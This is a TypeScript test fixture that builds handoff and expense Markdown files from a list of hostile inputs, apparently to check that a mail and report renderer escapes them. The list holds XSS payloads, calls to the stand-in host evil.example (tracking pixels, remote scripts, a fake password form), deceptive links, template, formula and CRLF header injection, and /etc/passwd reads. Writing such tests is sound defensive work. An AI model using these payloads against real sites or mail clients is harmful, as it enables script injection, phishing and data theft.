/** What somebody might write into a note to reach whoever reads the mail. None has a pipe, since each stands in a table, too. */
export const hostileWords: readonly string[] = [
  '<script>document.title="pwned"</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="document.title=\'pwned\'">',
  '<img src="https://evil.example/pixel.png" width="1" height="1">',
  '![pixel](https://evil.example/pixel.png)',
  '![x][y] ![](data:image/svg+xml;base64,PHN2Zz4=)',
  '<svg onload="document.title=\'pwned\'"><script>document.title="pwned"</script></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  '<body onload="document.title=\'pwned\'" background="https://evil.example/x.png">',
  '<video autoplay src="https://evil.example/x.mp4" onloadstart="document.title=1"></video>',
  '<details open ontoggle="document.title=\'pwned\'"><summary>x</summary></details>',
  '<math><mtext></style><img src=x onerror=document.title=1></mtext></math>',
  '</td></tr></table></body></html><script>document.title="pwned"</script>',
  '<!--[if mso]><script>document.title="pwned"</script><![endif]-->',
  '--><script>document.title="pwned"</script><!--',
  '[click](javascript:document.title=1)',
  '[click](JaVaScRiPt&#58;document.title=1)',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox)',
  '[https://bank.example](https://evil.example/)',
  '[bank.example](https://evil.example/) and <https://bank.example@evil.example/>',
  '[report](//evil.example/report) and [report](https://user:pass@evil.example/)',
  '[report](\\\\evil.example\\share) and [report](file:///etc/passwd)',
  '<a href="https://evil.example/">https://bank.example</a>',
  '&lt;script&gt;document.title="pwned"&lt;/script&gt;',
  '{{ constructor.constructor("return process")().exit() }} {% include "/etc/passwd" %}',
  '=cmd()!A1 +1+1 @SUM(1)',
  '\u202eexe.gnp\u202c \u2066x\u2069 \u0085 \u001b[31m \u0000',
  'x\r\nBcc: evil@evil.example\r\n\r\n<script>document.title=1</script>',
];

/** Notes and tables that hold each of them wherever words of the author reach a report. */
export function hostileNotes(words: readonly string[]): { readonly [path: string]: string } {
  const lines = words.map((one) => one.replace(/[\r\n]+/g, ' '));
  const cells = lines.map((one) => one.replaceAll('|', '\\|'));
  const rows = (write: (cell: string, i: number) => string): string => cells.map(write).join('\n');
  return {
    'handoffs/a.md': [
      '---\nupdated: 2026-11-21\n---',
      `# ${lines[0]}`,
      `## Blockers\n${lines.map((one) => `- ${one} (priority: P0, due: 2026-11-01, owner: ${one})`).join('\n')}`,
      `## Next steps\n${lines.map((one, i) => `${i + 1}. ${one} (due: 2026-12-01)`).join('\n')}`,
      ...lines.map((one) => `### ${one}\n\n${one}`),
    ].join('\n\n'),
    'inventory/expenses.md': `# Expenses\n\n| Entity | Vendor | Amount | Behaviour | Basis | Notes |\n| --- | --- | --- | --- | --- | --- |\n${rows((cell, i) => `| ${cell} | ${cell} ${i} | $${i + 10}/month | fixed | stated | ${cell} |`)}\n`,
    'inventory/cash.md': `# Cash\n\n| Entity | Account | Balance | As of | Basis |\n| --- | --- | --- | --- | --- |\n${rows((cell, i) => `| HARB | ${cell} ${i} | $${i + 10} | 2026-11-20 | stated |`)}\n`,
  };
}
